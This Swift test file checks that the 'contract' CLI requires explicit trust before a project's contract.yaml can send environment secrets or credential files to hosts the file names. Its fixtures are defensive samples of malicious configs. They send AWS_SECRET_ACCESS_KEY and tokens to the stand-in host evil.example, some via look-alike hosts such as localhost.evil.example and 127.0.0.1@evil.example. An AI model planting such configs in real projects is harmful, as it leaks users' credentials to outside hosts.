import ArgumentParser
import Foundation
import Testing

@testable import ContractCommand

@Suite("What only a trusted file gets")
struct TrustTests {
  /// A run with a file, and what it would do that only a trusted file gets.
  struct Run: Sendable, CustomTestStringConvertible {
    var testDescription: String
    var file: String
    var arguments = ["verify"]
    var environment: [String: String] = [:]
    var requests: [String] = []
  }

  private static func requests(_ run: Run) throws -> [String] {
    let configuration = try ConfigurationReader.read(Array(run.file.utf8), file: "contract.yaml")
    let parsed = try RootCommand.parseAsRoot(run.arguments)
    var command = try #require(parsed as? any ConfigurableCommand)
    let settings = try command.complete(environment: run.environment, configuration: configuration)
    return settings.fileRequests.map(\.sentence)
  }

  private static let evil =
    "targets:\n  live:\n    url: https://evil.example\n    header-env: {X-A: AWS_SECRET_ACCESS_KEY}\n"

  @Test(
    "A target that only the file names, and that is elsewhere, gets nothing of the user's from an untrusted file",
    arguments: [
      Run(
        testDescription: "a variable as a header, of a target that the file chooses",
        file: "base-url: live\n" + evil,
        requests: [
          "sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A to https://evil.example "
            + "(contract.yaml:3:3)"
        ]
      ),
      Run(
        testDescription: "the same target by its name, which is not an address",
        file: evil,
        arguments: ["gate", "--base-url", "live"],
        requests: [
          "sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A to https://evil.example "
            + "(contract.yaml:2:3)"
        ]
      ),
      Run(
        testDescription: "a variable of accept",
        file: evil,
        arguments: ["accept", "-u", "live"],
        requests: [
          "sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A to https://evil.example "
            + "(contract.yaml:2:3)"
        ]
      ),
      Run(
        testDescription: "credentials of the file",
        file: "base-url: http://10.1.2.3\nauth: {a: 'env:TOKEN', b.client-secret: 'file:s.txt', b.client-id: me}\n",
        requests: [
          "sends the environment variable TOKEN as the credential a to http://10.1.2.3 (contract.yaml:2:7)",
          "sends the file s.txt as the credential b.client-secret to http://10.1.2.3 (contract.yaml:2:7)",
        ]
      ),
      Run(
        testDescription: "credentials of two identities",
        file: "base-url: http://10.1.2.3\nas: {ann: {a: 'env:ANN'}, bob: {header.X-Key: 'env:BOB'}}\n",
        requests: [
          "sends the environment variable ANN as the credential ann:a to http://10.1.2.3 (contract.yaml:2:5)",
          "sends the environment variable BOB as the credential bob:header.X-Key to http://10.1.2.3 (contract.yaml:2:5)",
        ]
      ),
      Run(
        testDescription: "the user's own credential",
        file: "base-url: https://evil.example\n",
        arguments: ["verify", "--auth", "bearer=env:MINE"],
        requests: [
          "sends the environment variable MINE as the credential bearer to https://evil.example (contract.yaml:1:11)"
        ]
      ),
      Run(
        testDescription: "the user's own credential from the environment",
        file: "base-url: https://evil.example\n",
        environment: ["CONTRACT_AUTH": "bearer=env:MINE"],
        requests: [
          "sends the environment variable MINE as the credential bearer to https://evil.example (contract.yaml:1:11)"
        ]
      ),
      Run(
        testDescription: "the user's own headers",
        file: "base-url: https://evil.example\n",
        arguments: ["verify", "-H", "Authorization: Bearer x", "-H", "Accept: text/plain", "--header-env", "X-K=MINE"],
        requests: [
          "sends your header Authorization to https://evil.example (contract.yaml:1:11)",
          "sends the environment variable MINE as the header X-K to https://evil.example (contract.yaml:1:11)",
        ]
      ),
      Run(
        testDescription: "inputs of workflows",
        file: "base-url: https://evil.example\ninput-env: {p: PASSWORD}\n",
        arguments: ["verify", "--input", "password=x", "--input", "size=1"],
        requests: [
          "sends your workflow input password to https://evil.example (contract.yaml:1:11)",
          "sends the environment variable PASSWORD as the workflow input p to https://evil.example "
            + "(contract.yaml:2:12)",
        ]
      ),
      Run(
        testDescription: "unsafe requests",
        file: "base-url: https://evil.example\nallow-unsafe: true\n",
        requests: ["sends unsafe requests (all) to https://evil.example (contract.yaml:2:15)"]
      ),
      Run(
        testDescription: "the traffic of a client",
        file: "base-url: https://evil.example\n",
        arguments: ["record", "--proxy", "-o", "a.har"],
        requests: ["passes on your client's requests to https://evil.example (contract.yaml:1:11)"]
      ),
      Run(
        testDescription: "a token URL elsewhere, for the user's own target",
        file: "auth: {o.token-url: 'https://evil.example/t', o.client-secret: 'env:AWS', a: 'env:B'}\n",
        arguments: ["verify", "https://api.example"],
        requests: [
          "sends the environment variable AWS as the credential o.client-secret to https://api.example (contract.yaml:1:7)",
          "sends the environment variable B as the credential a to https://api.example (contract.yaml:1:7)",
          "sends the environment variable AWS as the credential o.client-secret to https://evil.example/t "
            + "(contract.yaml:1:7)",
        ]
      ),
      Run(
        testDescription: "a relative token URL elsewhere",
        file: "auth: {o.token-url: //evil.example/t, o.password: 'env:AWS'}\n",
        arguments: ["verify", "http://127.0.0.1:80"],
        requests: [
          "sends the environment variable AWS as the credential o.password to http://127.0.0.1:80 (contract.yaml:1:7)",
          "sends the environment variable AWS as the credential o.password to http://evil.example/t (contract.yaml:1:7)",
        ]
      ),
      Run(
        testDescription: "a host that only begins like this machine",
        file: "base-url: http://localhost.evil.example\nallow-unsafe: [a]\n",
        requests: ["sends unsafe requests (a) to http://localhost.evil.example (contract.yaml:2:15)"]
      ),
      Run(
        testDescription: "a variable of the file for an address on the command line",
        file: "auth: {a: 'env:TOKEN'}\nallow-unsafe: true\nbase-url: https://evil.example\n",
        arguments: ["verify", "--base-url", "https://api.example"],
        requests: [
          "sends the environment variable TOKEN as the credential a to https://api.example (contract.yaml:1:7)"
        ]
      ),
      Run(
        testDescription: "a variable of the file for an address in the environment",
        file: "input-env: {a: TOKEN}\n",
        environment: ["CONTRACT_BASE_URL": "http://127.0.0.1:80"],
        requests: [
          "sends the environment variable TOKEN as the workflow input a to http://127.0.0.1:80 (contract.yaml:1:12)"
        ]
      ),
      Run(
        testDescription: "a variable of the file for the API of the last run",
        file: "auth: {a: 'env:TOKEN'}\n",
        arguments: ["repeat", "abc"],
        requests: ["sends the environment variable TOKEN as the credential a to the API of the run (contract.yaml:1:7)"]
      ),
      Run(
        testDescription: "a variable of the file for a port of this machine, which may be that of a container",
        file: "base-url: live\ntargets: {live: {url: 'http://localhost:8080', header-env: {X: Y}}}\n",
        requests: ["sends the environment variable Y as the header X to http://localhost:8080 (contract.yaml:2:11)"]
      ),
      Run(
        testDescription: "a file of the project for a port of this machine",
        file: "base-url: 'http://[::1]:80'\nauth: {a: 'file:key'}\n",
        requests: ["sends the file key as the credential a to http://[::1]:80 (contract.yaml:2:7)"]
      ),
      Run(
        testDescription: "a name below localhost, which a resolver may know",
        file: "base-url: http://api.localhost:8080\nallow-unsafe: [a]\n",
        requests: ["sends unsafe requests (a) to http://api.localhost:8080 (contract.yaml:2:15)"]
      ),
      Run(
        testDescription: "an address that means every interface",
        file: "base-url: http://0.0.0.0:8080\nallow-unsafe: [a]\n",
        requests: ["sends unsafe requests (a) to http://0.0.0.0:8080 (contract.yaml:2:15)"]
      ),
      Run(
        testDescription: "an address of IPv6 that means every interface",
        file: "base-url: 'http://[::]:8080'\n",
        arguments: ["verify", "--auth", "bearer=env:MINE"],
        requests: [
          "sends the environment variable MINE as the credential bearer to http://[::]:8080 (contract.yaml:1:11)"
        ]
      ),
      Run(
        testDescription: "a host that looks like user information",
        file: "base-url: http://127.0.0.1@evil.example\nallow-unsafe: [a]\n",
        requests: ["sends unsafe requests (a) to http://REDACTED@evil.example (contract.yaml:2:15)"]
      ),
    ]
  )
  func untrusted(_ run: Run) throws { #expect(try Self.requests(run) == run.requests) }

  @Test(
    "What the user chose, this machine, and what is not a secret need no trust",
    arguments: [
      Run(
        testDescription: "an address on the command line",
        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
        arguments: ["verify", "--base-url", "https://api.example"]
      ),
      Run(
        testDescription: "an address as an argument",
        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
        arguments: ["verify", "https://api.example"]
      ),
      Run(
        testDescription: "an address in the environment",
        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
        environment: ["CONTRACT_BASE_URL": "https://api.example"]
      ),
      Run(
        testDescription: "the user's own credential for this machine",
        file: "base-url: live\ntargets: {live: {url: 'http://localhost:8080', allow-unsafe: true}}\n",
        arguments: ["verify", "--auth", "bearer=env:MINE", "-H", "Authorization: Bearer x"]
      ),
      Run(
        testDescription: "the user's own credential in place of that of the file",
        file: "auth: {a: 'env:TOKEN'}\n",
        arguments: ["verify", "https://api.example", "--auth", "a=env:MINE"]
      ),
      Run(testDescription: "a run without an API, which serves itself", file: "auth: {a: 'env:TOKEN'}\n"),
      Run(testDescription: "this machine by number", file: "base-url: http://127.1.2.3\nallow-unsafe: all\n"),
      Run(testDescription: "this machine by IPv6", file: "base-url: 'http://[::1]:80'\nallow-unsafe: all\n"),
      Run(
        testDescription: "plain headers and a client id",
        file:
          "base-url: live\ntargets: {live: {url: 'https://a.example', headers: {X-Env: test}, auth: {o.client-id: me}}}\n",
        arguments: ["verify", "-H", "Accept-Language: en", "--input", "size=1"]
      ),
      Run(
        testDescription: "a token URL of the user's own target",
        file: "auth: {o.token-url: 'https://api.example/t'}\n",
        arguments: ["verify", "https://api.example", "--header-env", "X-Key=KEY"]
      ),
      Run(
        testDescription: "a relative token URL",
        file: "auth: {o.token-url: /oauth/t}\n",
        arguments: ["verify", "https://api.example", "--header-env", "X-Key=KEY"]
      ),
      Run(testDescription: "a check, which sends nothing", file: "base-url: live\n" + evil, arguments: ["check"]),
    ]
  )
  func needless(_ run: Run) throws { #expect(try Self.requests(run) == []) }

  /// The subcommands that can send to an API that a file names.
  private static let sending = ConfigCommand.configurable.map { $0.name }.filter { name in
    CommandOption.all.contains { $0.command == name && $0.name == "--base-url" }
  }

  @Test("Each subcommand that sends headers asks for trust before it sends one where a file says", arguments: sending)
  func sends(_ name: String) throws {
    let needed = [
      "record": ["--output", "a.har"], "repeat": ["abc"], "mock": ["--unmatched", "forward"],
    ]
    let run = Run(
      testDescription: name,
      file: Self.evil,
      arguments: [name, "--base-url", "live"] + (needed[name] ?? [])
    )
    let request = "sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A to https://evil.example "
    #expect(try Self.requests(run).contains { $0.hasPrefix(request) })
  }

  // MARK: The store

  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private func configuration(_ text: String) throws -> ProjectConfiguration {
    let path = try folder.file("contract.yaml", text)
    return try #require(try ConfigurationReader.read(Array(text.utf8), file: path))
  }

  private func message(_ configuration: ProjectConfiguration, _ environment: [String: String]) -> String? {
    let request = FileRequest(text: "sends X as the header Y", destination: "https://evil.example", place: "a:1:1")
    return failureMessage { () throws(CommandFailure) in
      try configuration.requireTrust(for: [request, request], environment)
    }?
    .replacingOccurrences(of: folder.path, with: "FOLDER")
  }

  @Test("A file is trusted with its path and content; a changed one needs trust again, and so does a copy elsewhere")
  func store() throws {
    let environment = ["XDG_STATE_HOME": "\(folder.path)/state"]
    let first = try configuration("base-url: https://evil.example\n")
    let refusal =
      "FOLDER/contract.yaml is not trusted, and a run with it sends X as the header Y to https://evil.example (a:1:1); "
      + "read the file, then run contract trust --config FOLDER/contract.yaml; or name the API and the variables "
      + "yourself, with --base-url, --auth and --header-env; on a build server, set CONTRACT_TRUST=1"
    #expect(message(first, environment) == refusal)
    let store = try TrustStore(environment)
    try store.write([TrustStore.entry(of: first)])
    #expect(message(first, environment) == nil)
    // Another user has other files.
    #expect(message(first, ["HOME": folder.path]) == refusal)
    #expect(message(first, [:]) == refusal)
    let changed = try configuration("base-url: https://other.example\n")
    #expect(message(changed, environment)?.contains("has changed since you trusted it") == true)
    let copy = folder.path + "/copy.yaml"
    try FileManager.default.copyItem(atPath: first.file, toPath: copy)
    let other = try #require(
      try ConfigurationReader.read(Array("base-url: https://evil.example\n".utf8), file: copy)
    )
    #expect(message(other, environment)?.contains("is not trusted") == true)
    try store.write([])
    #expect(message(first, environment) == refusal)
  }

  @Test("The list of trusted files is the user's alone, and one that others can write to is not used")
  func privacy() throws {
    let environment = ["XDG_STATE_HOME": "\(folder.path)/state"]
    let file = try configuration("base-url: https://evil.example\n")
    let store = try TrustStore(environment)
    try store.write([TrustStore.entry(of: file)])
    let attributes = try FileManager.default.attributesOfItem(atPath: store.path)
    #expect((attributes[.posixPermissions] as? NSNumber)?.intValue == 0o600)
    try FileManager.default.setAttributes([.posixPermissions: 0o666], ofItemAtPath: store.path)
    #expect(message(file, environment)?.contains("others can write to it") == true)
  }

  @Test("A variable trusts the file of one run", arguments: ["1", "true", "YES"])
  func variable(value: String) throws {
    let file = try configuration("base-url: https://evil.example\n")
    #expect(message(file, ["CONTRACT_TRUST": value]) == nil)
    #expect(message(file, ["CONTRACT_TRUST": "0"]) != nil)
  }
}
